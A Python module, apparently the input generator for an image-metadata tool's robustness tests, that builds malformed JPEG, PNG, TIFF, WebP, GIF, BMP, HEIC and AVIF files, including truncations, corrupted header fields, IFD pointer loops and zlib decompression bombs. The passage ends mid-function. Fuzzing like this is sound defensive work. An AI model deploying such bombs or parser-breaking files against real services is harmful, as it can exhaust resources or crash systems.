"""Hostile inputs for the robustness suite (issue 7), generated at run time and seeded.

Nothing large is committed: every input is derived, deterministically, from small seed files
built here with Pillow (JPEG, progressive JPEG, PNG, TIFF, WebP, GIF, BMP, MPO, HEIC, AVIF)
whose metadata is transplanted from the project's own demo samples
(:func:`samples.generate.build_samples`: camera EXIF with GPS, maker note and thumbnail,
Photoshop XMP, Stable-Diffusion PNG text). At ``full`` scale the full-size samples themselves
are mutated too.

Two kinds of families:

* file families (:data:`FILE_FAMILIES`): functions yielding :class:`HostileFile` (family, a
  plain ASCII file name, the bytes, a note), so a test can write each one anywhere;
* folder families (:data:`FOLDER_FAMILIES`): functions building a tree under a root
  (thousands of tiny files, deep directories, symbolic-link loops, names with newlines and
  invalid UTF-8, special files) and returning a :class:`FolderCase` that lists every path the
  batch must report as an item.

Everything is parameterised by a :class:`Scale` (``small`` for the tests, ``full`` for
``python -m benchmarks.hostile``). The same scale gives byte-identical inputs.
"""

from __future__ import annotations

import functools
import io
import os
import stat
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

try:  # HEIC through pillow-heif (a declared dependency); AVIF is native in recent Pillow
    import pillow_heif

    pillow_heif.register_heif_opener()
except ImportError:  # pragma: no cover
    pillow_heif = None

SEED = 20250107
"""Root of every random choice here (numpy ``default_rng([SEED, ...])``)."""


@dataclass(frozen=True)
class Scale:
    """How many inputs each family makes."""

    name: str
    per_seed: int
    """Base count of truncations (x3) and random bit-flip variants (x2) per small seed."""
    structured: int
    """Base count of structured edits per seed (x4 for lengths and header fields, x3 for IFD
    loops, offsets past the end and tag counts); the demo samples get a fifth."""
    many: int
    """'Thousands of': markers in a JPEG, chunks in a PNG, frames, IFDs, XMP properties."""
    bomb_mb: int
    """Decompressed size (MiB) of the zlib bombs."""
    legal_pixels: int
    """Side of the largest legal (under Pillow's pixel limit) image of the zlib family."""
    tiny_files: int
    """Files in the ``many_tiny`` folder family."""
    deep_levels: int
    """Depth of the ``deep_dirs`` chain."""
    use_samples: bool
    """Also mutate the full-size demo samples (slow to analyse: ~0.6 s each)."""


SCALES = {
    "small": Scale("small", per_seed=2, structured=1, many=1000, bomb_mb=64, legal_pixels=2000,
                   tiny_files=2000, deep_levels=200, use_samples=False),
    "full": Scale("full", per_seed=40, structured=24, many=20000, bomb_mb=2048,
                  legal_pixels=9400, tiny_files=100_000, deep_levels=1200, use_samples=True),
}


def get_scale(scale: str | Scale) -> Scale:
    return scale if isinstance(scale, Scale) else SCALES[scale]


@dataclass(frozen=True)
class HostileFile:
    family: str
    name: str
    """A plain ASCII file name (unique within the family), extension included."""
    data: bytes
    note: str
    source: str = ""
    """The seed file it was derived from, when there is one."""


def _rng(*key: int | str) -> np.random.Generator:
    parts = [SEED] + [zlib.crc32(k.encode()) if isinstance(k, str) else int(k) for k in key]
    return np.random.default_rng(parts)


# =========================================================================== byte builders


def jpeg_segment(marker: int, body: bytes) -> bytes:
    """One JPEG marker segment (``body`` at most 65533 bytes)."""
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg_segments(data: bytes) -> list[tuple[int, int, int]]:
    """(marker, offset, length field) of every header segment up to and including SOS."""
    out, pos = [], 2
    while pos + 4 <= len(data) and data[pos] == 0xFF:
        marker = data[pos + 1]
        if marker in (0xD8, 0x01) or 0xD0 <= marker <= 0xD7:
            pos += 2
            continue
        if marker == 0xD9:
            break
        length = struct.unpack(">H", data[pos + 2:pos + 4])[0]
        out.append((marker, pos, length))
        if marker == 0xDA or length < 2:
            break
        pos += 2 + length
    return out


def jpeg_insert(data: bytes, segments: bytes, *, drop_app0: bool = True) -> bytes:
    """Insert header segments right after SOI (dropping a JFIF APP0 first)."""
    rest = data[2:]
    if drop_app0 and rest[:2] == b"\xff\xe0":
        rest = rest[2 + struct.unpack(">H", rest[2:4])[0]:]
    return data[:2] + segments + rest


def png_chunk(ctype: bytes, body: bytes) -> bytes:
    return (struct.pack(">I", len(body)) + ctype + body
            + struct.pack(">I", zlib.crc32(ctype + body) & 0xFFFFFFFF))


def png_chunks(data: bytes) -> list[tuple[bytes, int, int]]:
    """(type, offset of the length field, body length) of every chunk."""
    out, pos = [], 8
    while pos + 12 <= len(data):
        length = struct.unpack(">I", data[pos:pos + 4])[0]
        ctype = data[pos + 4:pos + 8]
        out.append((ctype, pos, length))
        if ctype == b"IEND" or pos + 12 + length > len(data):
            break
        pos += 12 + length
    return out


def png_insert(data: bytes, chunks: bytes, *, before: bytes = b"IDAT") -> bytes:
    """Insert raw chunks before the first chunk of type ``before``."""
    for ctype, pos, _ in png_chunks(data):
        if ctype == before:
            return data[:pos] + chunks + data[pos:]
    raise ValueError(f"no {before!r} chunk")


def png_fix_crc(data: bytes, chunk_pos: int) -> bytes:
    """Recompute the CRC of the chunk whose length field is at ``chunk_pos`` (if it fits)."""
    length = struct.unpack(">I", data[chunk_pos:chunk_pos + 4])[0]
    end = chunk_pos + 8 + length
    if end + 4 > len(data):
        return data
    crc = struct.pack(">I", zlib.crc32(data[chunk_pos + 4:end]) & 0xFFFFFFFF)
    return data[:end] + crc + data[end + 4:]


def png_fix_all_crcs(data: bytes) -> bytes:
    for _, pos, _ in png_chunks(data):
        data = png_fix_crc(data, pos)
    return data


def png_raw(width: int, height: int, *, color_type: int = 0, bit_depth: int = 8,
            idat: bytes | None = None, chunks: bytes = b"") -> bytes:
    """A PNG assembled by hand (IHDR, extra chunks, IDAT, IEND)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    if idat is None:
        channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
        row = b"\x00" + bytes(max(1, width * channels * bit_depth // 8))
        idat = zlib.compress(row * height)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + chunks + png_chunk(b"IDAT", idat)
            + png_chunk(b"IEND", b""))


@functools.lru_cache(maxsize=8)
def zeros_deflate(n_bytes: int, *, chunk: int = 1 << 24) -> bytes:
    """A zlib stream that inflates to ``n_bytes`` zero bytes (about 1/1000 of that size)."""
    comp = zlib.compressobj(9)
    block = bytes(min(chunk, n_bytes))
    parts, left = [], n_bytes
    while left > 0:
        parts.append(comp.compress(block[:min(left, len(block))]))
        left -= min(left, len(block))
    parts.append(comp.flush())
    return b"".join(parts)


# TIFF field types: (struct code per value, bytes per value)
_TIFF_TYPES = {1: ("B", 1), 2: ("B", 1), 3: ("H", 2), 4: ("I", 4), 5: ("II", 8), 7: ("B", 1),
               9: ("i", 4), 10: ("ii", 8), 16: ("Q", 8)}
_SUB_IFD_TAGS = {0x8769: "ExifIFD", 0x8825: "GPS", 0xA005: "Interop", 0x014A: "SubIFDs"}

Entry = tuple[int, int, object]
"""(tag, TIFF type, value): bytes/str for BYTE, ASCII and UNDEFINED, ints or pairs otherwise."""


def _tiff_value(typ: int, value: object, bo: str) -> tuple[int, bytes]:
    if typ in (1, 2, 7):
        raw = value.encode("latin-1") if isinstance(value, str) else bytes(value)  # type: ignore
        if typ == 2 and not raw.endswith(b"\x00"):
            raw += b"\x00"
        return len(raw), raw
    code, size = _TIFF_TYPES[typ]
    vals = list(value) if isinstance(value, (list, tuple)) else [value]  # type: ignore
    if code in ("II", "ii"):
        flat = [x for pair in vals for x in pair]
        return len(vals), struct.pack(bo + code[0] * len(flat), *flat)
    return len(vals), struct.pack(bo + code * len(vals), *vals)


def tiff_ifd(entries: list[Entry], start: int, bo: str, next_ifd: int = 0) -> bytes:
    """Serialise one IFD placed at ``start`` (values longer than 4 bytes follow it)."""
    entries = sorted(entries, key=lambda e: e[0])
    n = len(entries)
    data_at = start + 2 + 12 * n + 4
    head, tail = [struct.pack(bo + "H", n)], []
    for tag, typ, value in entries:
        count, raw = _tiff_value(typ, value, bo)
        if len(raw) <= 4:
            field = raw.ljust(4, b"\x00")
        else:
            field = struct.pack(bo + "I", data_at + sum(map(len, tail)))
            raw += b"\x00" * (len(raw) % 2)
            tail.append(raw)
        head.append(struct.pack(bo + "HHI", tag, typ, count) + field)
    return b"".join(head) + struct.pack(bo + "I", next_ifd) + b"".join(tail)


def build_tiff(ifd0: list[Entry], *, subs: dict[int, list[Entry]] | None = None,
               strips: bytes = b"", bo: str = "<", next_ifds: Iterable[list[Entry]] = (),
               ) -> bytes:
    """A classic TIFF: header, pixel data at offset 8, then sub-IFDs, IFD0 and extra IFDs.

    Sub-IFD pointer entries (ExifIFD, GPS, Interop) are added to IFD0 for each key of
    ``subs``; ``StripOffsets`` (0x0111) set to ``None`` in ``ifd0`` is pointed at ``strips``.
    """
    out = bytearray((b"II*\x00" if bo == "<" else b"MM\x00*") + b"\x00" * 4 + strips)
    if len(out) % 2:
        out += b"\x00"
    pointers: list[Entry] = []
    for tag, entries in (subs or {}).items():
        pointers.append((tag, 4, len(out)))
        out += tiff_ifd(entries, len(out), bo)
        if len(out) % 2:
            out += b"\x00"
    main = [(t, ty, 8 if (t == 0x0111 and v is None) else v) for t, ty, v in ifd0]
    ifd0_at = len(out)
    extra = list(next_ifds)
    # lay IFD0 out once to learn its size, then chain the extra IFDs after it
    size0 = len(tiff_ifd(main + pointers, ifd0_at, bo))
    chain_at, offsets = ifd0_at + size0 + (size0 % 2), []
    for entries in extra:
        offsets.append(chain_at)
        chain_at += len(tiff_ifd(entries, chain_at, bo))
        chain_at += chain_at % 2
    out += tiff_ifd(main + pointers, ifd0_at, bo, offsets[0] if offsets else 0)
    for i, entries in enumerate(extra):
        if len(out) % 2:
            out += b"\x00"
        out += tiff_ifd(entries, len(out), bo, offsets[i + 1] if i + 1 < len(offsets) else 0)
    out[4:8] = struct.pack(bo + "I", ifd0_at)
    return bytes(out)


@dataclass(frozen=True)
class TiffField:
    kind: str
    """``ifd0_offset``, ``entry_count``, ``next_ifd``, ``sub_ifd``, ``tag``, ``type``,
    ``count``, ``value``."""
    pos: int
    """Absolute offset in the containing file."""
    size: int
    tag: int = 0
    ifd_start: int = 0
    """Offset of the IFD (relative to the TIFF header) the field belongs to."""


def tiff_fields(data: bytes, base: int, *, max_ifds: int = 32) -> list[TiffField]:
    """Every structural field of the TIFF (or EXIF) block starting at ``base``."""
    head = data[base:base + 8]
    if head[:4] in (b"II*\x00",):
        bo = "<"
    elif head[:4] == b"MM\x00*":
        bo = ">"
    else:
        return []
    fields = [TiffField("ifd0_offset", base + 4, 4)]
    todo = [struct.unpack(bo + "I", head[4:8])[0]]
    seen: set[int] = set()
    while todo and len(seen) < max_ifds:
        off = todo.pop(0)
        if off in seen or base + off + 2 > len(data) or off < 8:
            continue
        seen.add(off)
        n = struct.unpack(bo + "H", data[base + off:base + off + 2])[0]
        fields.append(TiffField("entry_count", base + off, 2, ifd_start=off))
        for i in range(min(n, 512)):
            at = base + off + 2 + 12 * i
            if at + 12 > len(data):
                break
            tag, _, _, value = struct.unpack(bo + "HHII", data[at:at + 12])
            fields += [TiffField("tag", at, 2, tag, off), TiffField("type", at + 2, 2, tag, off),
                       TiffField("count", at + 4, 4, tag, off),
                       TiffField("sub_ifd" if tag in _SUB_IFD_TAGS else "value", at + 8, 4,
                                 tag, off)]
            if tag in _SUB_IFD_TAGS:
                todo.append(value)
        at = base + off + 2 + 12 * n
        if at + 4 <= len(data):
            fields.append(TiffField("next_ifd", at, 4, ifd_start=off))
            todo.append(struct.unpack(bo + "I", data[at:at + 4])[0])
    return fields


def tiff_byte_order(data: bytes, base: int) -> str:
    return "<" if data[base:base + 2] == b"II" else ">"


def exif_base(data: bytes) -> int | None:
    """Offset of the TIFF header of the file's EXIF block (or of the TIFF file itself)."""
    if data[:4] in (b"II*\x00", b"MM\x00*"):
        return 0
    for sig in (b"Exif\x00\x00II*\x00", b"Exif\x00\x00MM\x00*"):
        pos = data.find(sig)
        if pos >= 0:
            return pos + 6
    if data.startswith(b"\x89PNG"):
        for ctype, pos, _ in png_chunks(data):
            if ctype == b"eXIf":
                return pos + 8
    return None


def put(data: bytes, pos: int, raw: bytes) -> bytes:
    """``data`` with ``raw`` written over it at ``pos`` (length unchanged)."""
    raw = raw[:max(0, len(data) - pos)]
    return data[:pos] + raw + data[pos + len(raw):]


def _finish(data: bytes) -> bytes:
    """Fix PNG CRCs after an in-place edit so the parser goes past the checksum."""
    return png_fix_all_crcs(data) if data.startswith(b"\x89PNG") else data


# =========================================================================== seeds


def _picture(w: int, h: int, seed: int) -> np.ndarray:
    """A small photo-like picture (gradients, shapes, a little noise)."""
    rng = _rng("picture", seed)
    y, x = np.mgrid[0:h, 0:w].astype(np.float32)
    img = np.stack([x / max(1, w - 1) * 200 + 20, y / max(1, h - 1) * 180 + 30,
                    (x + y) / (w + h) * 160 + 40], -1)
    for _ in range(4):
        x0, y0 = int(rng.integers(0, max(1, w - 8))), int(rng.integers(0, max(1, h - 8)))
        img[y0:y0 + h // 4, x0:x0 + w // 5] = rng.integers(0, 256, 3)
    img += rng.normal(0, 3, img.shape)
    return np.clip(img, 0, 255).astype(np.uint8)


def _encode(arr: np.ndarray, fmt: str, **kw: object) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(arr).save(buf, fmt, **kw)
    return buf.getvalue()


@functools.lru_cache(maxsize=1)
def _sample_files() -> dict[str, bytes]:
    """The demo samples' bytes (``samples.generate.build_samples``), by file name."""
    from provenancekit.samples.generate import build_samples

    with tempfile.TemporaryDirectory(prefix="hostile-samples-") as tmp:
        built = build_samples(tmp)
        return {f.name: Path(f.path).read_bytes() for f in built.files}


def _app_bodies(jpeg: bytes, marker: int, ident: bytes) -> list[bytes]:
    return [jpeg[off + 4:off + 2 + length] for m, off, length in jpeg_segments(jpeg)
            if m == marker and jpeg[off + 4:off + 4 + len(ident)] == ident]


def _icc_srgb() -> bytes:
    """LittleCMS's sRGB profile with its creation time and profile ID fixed (deterministic)."""
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return icc[:24] + struct.pack(">6H", 2025, 1, 7, 0, 0, 0) + icc[36:84] + bytes(16) + icc[100:]


def iptc_app13(caption: bytes) -> bytes:
    """An APP13 Photoshop IRB body holding IPTC IIM (record version + caption)."""
    iim = b"\x1c\x02\x00\x00\x02\x00\x04" + b"\x1c\x02\x78" + struct.pack(">H", len(caption))
    iim += caption
    res = b"8BIM" + struct.pack(">H", 0x0404) + b"\x00\x00" + struct.pack(">I", len(iim)) + iim
    return b"Photoshop 3.0\x00" + res + (b"\x00" if len(iim) % 2 else b"")


@dataclass(frozen=True)
class Parts:
    """Metadata blocks transplanted from the demo samples onto the small seeds."""

    exif: bytes
    """``Exif\\0\\0`` + TIFF block of the Canon camera original (GPS, maker note, thumbnail)."""
    xmp: bytes
    """The Photoshop XMP packet of ``wreckage_edited.jpg`` (CreatorTool, History)."""
    png_text: dict[str, str]
    """Text chunks of ``ai_render.png`` (Stable-Diffusion parameters and XMP)."""
    icc: bytes


@functools.lru_cache(maxsize=1)
def parts() -> Parts:
    files = _sample_files()
    exif = _app_bodies(files["IMG_0412.jpg"], 0xE1, b"Exif\x00\x00")[0]
    xmp = _app_bodies(files["wreckage_edited.jpg"], 0xE1, b"http://ns.adobe.com/xap/1.0/\x00")
    with Image.open(io.BytesIO(files["ai_render.png"])) as im:
        text = dict(im.text)  # type: ignore[attr-defined]
    return Parts(exif=exif, xmp=xmp[0].split(b"\x00", 1)[1], png_text=text, icc=_icc_srgb())


def _tiff_seed(arr: np.ndarray, p: Parts, bo: str = "<") -> bytes:
    h, w = arr.shape[:2]
    ifd0: list[Entry] = [
        (0x0100, 3, w), (0x0101, 3, h), (0x0102, 3, [8, 8, 8]), (0x0103, 3, 1),
        (0x0106, 3, 2), (0x010F, 2, "Canon"), (0x0110, 2, "Canon EOS 90D"),
        (0x0111, 4, None), (0x0112, 3, 1), (0x0115, 3, 3), (0x0116, 3, h),
        (0x0117, 4, w * h * 3), (0x011A, 5, [(72, 1)]), (0x011B, 5, [(72, 1)]),
        (0x011C, 3, 1), (0x0128, 3, 2), (0x0131, 2, "Adobe Photoshop 25.0 (Windows)"),
        (0x0132, 2, "2025:12:31 23:58:03"), (0x02BC, 1, p.xmp),
        (0x83BB, 7, iptc_app13(b"caption")[14 + 12:]), (0x8773, 7, p.icc),
    ]
    subs = {
        0x8769: [(0x9003, 2, "2025:12:29 23:52:40"), (0x9000, 7, b"0231"),
                 (0x9286, 7, b"ASCII\x00\x00\x00hostile seed"), (0xA002, 4, w), (0xA003, 4, h),
                 (0x927C, 7, bytes(range(64)) * 3)],
        0x8825: [(0x0000, 1, b"\x02\x03\x00\x00"), (0x0001, 2, "N"),
                 (0x0002, 5, [(61, 1), (31, 1), (1900, 100)]), (0x0003, 2, "E"),
                 (0x0004, 5, [(34, 1), (11, 1), (200, 100)])],
    }
    return build_tiff(ifd0, subs=subs, strips=arr.tobytes(), bo=bo)


@functools.lru_cache(maxsize=2)
def seed_files(scale_name: str = "small") -> dict[str, bytes]:
    """Seed files by name (the extension names the format). Small seeds carry the samples'
    metadata; at ``full`` scale the image samples themselves are added (``sample_*``)."""
    scale = get_scale(scale_name)
    p = parts()
    pic = _picture(96, 72, 1)
    seeds: dict[str, bytes] = {}
    extra = (jpeg_segment(0xE1, p.exif)
             + jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + p.xmp)
             + jpeg_segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + p.icc)
             + jpeg_segment(0xED, iptc_app13(b"Wreckage near the lake, 29 Dec"))
             + jpeg_segment(0xFE, b"hostile-input seed"))
    seeds["seed.jpg"] = jpeg_insert(_encode(pic, "JPEG", quality=90), extra)
    seeds["seed_progressive.jpg"] = jpeg_insert(
        _encode(pic, "JPEG", quality=85, progressive=True, restart_marker_blocks=4),
        jpeg_segment(0xE1, p.exif))
    info = PngInfo()
    for key, value in p.png_text.items():
        info.add_itxt(key, value) if key.startswith("XML") else info.add_text(key, value)
    info.add_text("Comment", "hostile-input seed " * 20, zip=True)
    seeds["seed.png"] = _encode(pic, "PNG", pnginfo=info, exif=p.exif[6:], icc_profile=p.icc)
    seeds["seed.tif"] = _tiff_seed(pic, p)
    seeds["seed_be.tif"] = _tiff_seed(pic[:40, :48], p, bo=">")
    seeds["seed.webp"] = _encode(pic, "WEBP", quality=80, exif=p.exif, xmp=p.xmp,
                                 icc_profile=p.icc)
    frames = [Image.fromarray(_picture(48, 36, i)).convert("P") for i in range(3)]
    buf = io.BytesIO()
    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0,
                   comment=b"hostile-input seed")
    seeds["seed.gif"] = buf.getvalue()
    seeds["seed.bmp"] = _encode(pic[:36, :48], "BMP")
    buf = io.BytesIO()
    Image.fromarray(pic).save(buf, "MPO", save_all=True,
                              append_images=[Image.fromarray(pic[::-1].copy())], exif=p.exif)
    seeds["seed.mpo.jpg"] = buf.getvalue()
    for name, fmt in (("seed.heic", "HEIF"), ("seed.avif", "AVIF")):
        try:
            seeds[name] = _encode(pic, fmt, quality=60, exif=p.exif, xmp=p.xmp)
        except (KeyError, OSError, ValueError):  # pragma: no cover - no encoder here
            pass
    if scale.use_samples:
        for name, data in _sample_files().items():
            if data[:4] in (b"\xff\xd8\xff\xe0", b"\xff\xd8\xff\xe1") or data[:4] == b"\x89PNG":
                seeds["sample_" + name] = data
    return seeds


def _is_sample(name: str) -> bool:
    return name.startswith("sample_")


def _per_seed(name: str, n: int) -> int:
    """Fewer variants of the large demo samples (each takes ~0.6 s to analyse)."""
    return max(3, n // 5) if _is_sample(name) else n


def _ext(name: str) -> str:
    return name.rsplit(".", 1)[-1]


def _stem(name: str) -> str:
    return name.rsplit(".", 1)[0].replace(".", "_")


# =========================================================================== file families


def truncations(scale: Scale) -> Iterator[HostileFile]:
    """Each seed cut at header boundaries, structure boundaries and random offsets."""
    for name, data in seed_files(scale.name).items():
        n = len(data)
        cuts = {1, 2, 3, 4, 6, 8, 12, 16, 20, 24, 32, 48, 64, 100, n // 4, n // 2, n - 2, n - 1}
        if data[:2] == b"\xff\xd8":
            cuts |= {off + d for _, off, _ in jpeg_segments(data) for d in (0, 1, 3, 4, 10)}
        elif data[:4] == b"\x89PNG":
            cuts |= {pos + d for _, pos, _ in png_chunks(data) for d in (0, 4, 8, 9)}
        base = exif_base(data)
        if base is not None:
            cuts |= {f.pos + 1 for f in tiff_fields(data, base) if f.kind != "tag"}
        cuts = sorted(c for c in cuts if 0 < c < n)
        rng = _rng("truncation", name)
        keep = _per_seed(name, scale.per_seed * 2)
        picked = sorted(set(rng.choice(cuts, size=min(keep, len(cuts)), replace=False).tolist())
                        | set(rng.integers(1, n, size=_per_seed(name, scale.per_seed))
                              .tolist()))
        for cut in picked:
            yield HostileFile("truncation", f"{_stem(name)}_cut{cut}.{_ext(name)}", data[:cut],
                              f"{name} truncated to {cut} of {n} bytes")


def bitflips_random(scale: Scale) -> Iterator[HostileFile]:
    """Random bit flips anywhere (1 to 64 bits), and in the first 512 bytes only."""
    for name, data in seed_files(scale.name).items():
        rng = _rng("bitflip", name)
        for i in range(_per_seed(name, scale.per_seed * 2)):
            buf = bytearray(data)
            k = int(rng.choice([1, 2, 4, 8, 16, 64]))
            span = len(buf) if i % 2 else min(len(buf), 512)
            for pos in rng.integers(0, span, size=k):
                buf[int(pos)] ^= 1 << int(rng.integers(0, 8))
            where = "anywhere" if i % 2 else "in the first 512 bytes"
            yield HostileFile("bitflip_random", f"{_stem(name)}_flip{i}.{_ext(name)}",
                              bytes(buf), f"{name} with {k} random bit flips {where}")


_EXTREMES_16 = (0, 1, 2, 0x7FFF, 0xFFFF)
_EXTREMES_32 = (0, 1, 0x7FFFFFFF, 0xFFFFFFFF)


def _structure_edits(name: str, data: bytes) -> Iterator[tuple[str, int, bytes]]:
    """(what, offset, new bytes) for the format's length, size and header fields."""
    if data[:2] == b"\xff\xd8":
        for marker, off, length in jpeg_segments(data):
            for v in (*_EXTREMES_16, length - 1, length + 1):
                yield f"0x{marker:02X}@{off}.length={v}", off + 2, struct.pack(">H", v & 0xFFFF)
            if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC):
                yield f"SOF.height=0@{off}", off + 5, b"\x00\x00"
                yield f"SOF.width=0@{off}", off + 7, b"\x00\x00"
                yield f"SOF.components=0@{off}", off + 9, b"\x00"
                yield f"SOF.components=255@{off}", off + 9, b"\xff"
                yield f"SOF.precision=16@{off}", off + 4, b"\x10"
                yield f"SOF.sampling=0x0F@{off}", off + 11, b"\x0f"
            if marker == 0xDA:
                yield f"SOS.components=0@{off}", off + 4, b"\x00"
                yield f"SOS.components=9@{off}", off + 4, b"\x09"
            if marker == 0xDB:
                yield f"DQT.table_id=15@{off}", off + 4, b"\x1f"
            if marker == 0xC4:
                yield f"DHT.counts=255@{off}", off + 5, b"\xff" * 16
    elif data[:4] == b"\x89PNG":
        for ctype, pos, length in png_chunks(data):
            tag = ctype.decode("latin-1")
            for v in (*_EXTREMES_32, length + 1):
                yield f"{tag}@{pos}.length={v}", pos, struct.pack(">I", v)
            yield f"{tag}@{pos}.crc", pos + 8 + length, b"\xde\xad\xbe\xef"
            yield f"{tag}@{pos}.type", pos + 4, b"zzZz"
        for what, at, raw in (("bit_depth=0", 24, b"\x00"), ("bit_depth=3", 24, b"\x03"),
                              ("color_type=1", 25, b"\x01"), ("color_type=7", 25, b"\x07"),
                              ("compression=1", 26, b"\x01"), ("filter=1", 27, b"\x01"),
                              ("interlace=2", 28, b"\x02"), ("width=0", 16, bytes(4))):
            yield f"IHDR.{what}", at, raw
    elif data[:3] == b"GIF":
        for what, at, raw in (("screen=0x0", 6, bytes(4)), ("packed=0xFF", 10, b"\xff"),
                              ("packed=0x00", 10, b"\x00"), ("bg=255", 11, b"\xff")):
            yield f"LSD.{what}", at, raw
        pos = 13 + (3 << ((data[10] & 7) + 1) if data[10] & 0x80 else 0)
        for i in range(pos, len(data) - 1):
            if data[i] == 0x2C:  # first image descriptor
                yield "IMG.size=0xFFFF", i + 5, b"\xff\xff\xff\xff"
                yield "IMG.packed=0xFF", i + 9, b"\xff"
                yield "LZW.min_code=0", i + 10, b"\x00"
                yield "LZW.min_code=12", i + 10, b"\x0c"
                yield "LZW.min_code=255", i + 10, b"\xff"
                yield "LZW.block=255", i + 11, b"\xff"
                break
    elif data[:4] == b"RIFF":
        for v in _EXTREMES_32:
            yield f"RIFF.size={v}", 4, struct.pack("<I", v)
        pos = 12
        while pos + 8 <= len(data):
            ctype, size = data[pos:pos + 4], struct.unpack("<I", data[pos + 4:pos + 8])[0]
            tag = ctype.decode("latin-1")
            for v in (*_EXTREMES_32, size + 1):
                yield f"{tag}@{pos}.size={v}", pos + 4, struct.pack("<I", v)
            if ctype == b"VP8X":
                yield "VP8X.flags=0xFF", pos + 8, b"\xff"
                yield "VP8X.canvas=max", pos + 12, b"\xff" * 6
            pos += 8 + size + (size & 1)
    elif data[:2] == b"BM":
        for what, at, raw in (("size=0", 2, bytes(4)), ("offset=huge", 10, b"\xff" * 4),
                              ("header=0", 14, bytes(4)), ("header=huge", 14, b"\xff" * 4),
                              ("width=-1", 18, b"\xff" * 4), ("height=min", 22,
                                                                b"\x00\x00\x00\x80"),
                              ("planes=0", 26, b"\x00\x00"), ("bits=0", 28, b"\x00\x00"),
                              ("bits=33", 28, b"\x21\x00"), ("compression=3", 30,
                                                             b"\x03\x00\x00\x00"),
                              ("colors=huge", 46, b"\xff\xff\xff\x7f")):
            yield f"BMP.{what}", at, raw
    elif data[4:8] == b"ftyp":  # ISO-BMFF (HEIC / AVIF): walk boxes, top level and meta
        pos = 0
        while pos + 8 <= len(data):
            size, btype = struct.unpack(">I", data[pos:pos + 4])[0], data[pos + 4:pos + 8]
            tag = btype.decode("latin-1")
            for v in (0, 1, 7, 0xFFFFFFFF, size + 1):
                yield f"{tag}@{pos}.size={v}", pos, struct.pack(">I", v)
            if btype == b"meta" and size > 12:
                sub = pos + 12
                while sub + 8 <= pos + size:
                    ssize, stype = struct.unpack(">I", data[sub:sub + 4])[0], data[sub + 4:sub + 8]
                    for v in (0, 1, 0xFFFFFFFF, ssize - 1):
                        yield (f"meta/{stype.decode('latin-1')}@{sub}.size={v}", sub,
                               struct.pack(">I", v))
                    if ssize < 8:
                        break
                    sub += ssize
            if size < 8:
                break
            pos += size
    base = exif_base(data)
    if base is not None:
        bo = tiff_byte_order(data, base)
        for f in tiff_fields(data, base):
            if f.kind in ("count", "value", "sub_ifd", "next_ifd", "ifd0_offset"):
                for v in (0xFFFFFFFF, 0x7FFFFFFF, len(data) + 1):
                    yield f"TIFF.{f.kind}@{f.pos}(tag 0x{f.tag:04X})={v}", f.pos, \
                        struct.pack(bo + "I", v)
            elif f.kind == "entry_count":
                for v in (0, 0xFFFF):
                    yield f"TIFF.entry_count@{f.pos}={v}", f.pos, struct.pack(bo + "H", v)
            elif f.kind == "type":
                for v in (0, 13, 0xFFFF):
                    yield (f"TIFF.type@{f.pos}(tag 0x{f.tag:04X})={v}", f.pos,
                           struct.pack(bo + "H", v))


def bitflips_structured(scale: Scale) -> Iterator[HostileFile]:
    """Structured edits: segment/chunk/box lengths, header fields, EXIF/IFD offsets and counts
    set to extreme values (0, 1, 0xFFFF..., length +- 1), PNG CRCs fixed afterwards."""
    for name, data in seed_files(scale.name).items():
        edits = list(_structure_edits(name, data))
        rng = _rng("structured", name)
        n = _per_seed(name, scale.structured * 4)
        chosen = sorted(rng.choice(len(edits), size=min(n, len(edits)), replace=False).tolist())
        for i in chosen:
            what, pos, raw = edits[i]
            out = put(data, pos, raw)
            if ".crc" not in what and ".length" not in what:
                out = _finish(out)
            yield HostileFile("bitflip_structured", f"{_stem(name)}_s{i}.{_ext(name)}", out,
                              f"{name}: {what}")


def _exif_carriers(scale: Scale) -> Iterator[tuple[str, bytes, int]]:
    for name, data in seed_files(scale.name).items():
        base = exif_base(data)
        if base is not None and tiff_fields(data, base):
            yield name, data, base


def ifd_loops(scale: Scale) -> Iterator[HostileFile]:
    """IFD chains that loop: next-IFD and sub-IFD pointers aimed at themselves or at IFD0."""
    for name, data, base in _exif_carriers(scale):
        bo = tiff_byte_order(data, base)
        fields = tiff_fields(data, base)
        ifd0 = struct.unpack(bo + "I", data[base + 4:base + 8])[0]
        edits = []
        for f in fields:
            if f.kind == "next_ifd":
                edits.append((f"next IFD of IFD@{f.ifd_start} -> itself", f.pos, f.ifd_start))
                edits.append((f"next IFD of IFD@{f.ifd_start} -> IFD0", f.pos, ifd0))
            elif f.kind == "sub_ifd":
                edits.append((f"{_SUB_IFD_TAGS[f.tag]} pointer -> IFD0", f.pos, ifd0))
                edits.append((f"{_SUB_IFD_TAGS[f.tag]} pointer -> its own IFD", f.pos,
                              f.ifd_start))
        keep = _per_seed(name, scale.structured * 3)
        for i, (what, pos, value) in enumerate(edits[:keep]):
            yield HostileFile("ifd_loops", f"{_stem(name)}_loop{i}.{_ext(name)}",
                              _finish(put(data, pos, struct.pack(bo + "I", value))),
                              f"{name}: {what}")
        # a two-IFD cycle: IFD0 -> IFD1 -> IFD0 through next pointers and the Exif pointer
        nexts = [f for f in fields if f.kind == "next_ifd"]
        subs = [f for f in fields if f.kind == "sub_ifd"]
        if nexts and subs:
            target = struct.unpack(bo + "I", data[subs[0].pos:subs[0].pos + 4])[0]
            out = put(data, nexts[0].pos, struct.pack(bo + "I", target))
            for f in tiff_fields(data, base):
                if f.kind == "next_ifd" and f.ifd_start == target:
                    out = put(out, f.pos, struct.pack(bo + "I", ifd0))
            yield HostileFile("ifd_loops", f"{_stem(name)}_cycle.{_ext(name)}", _finish(out),
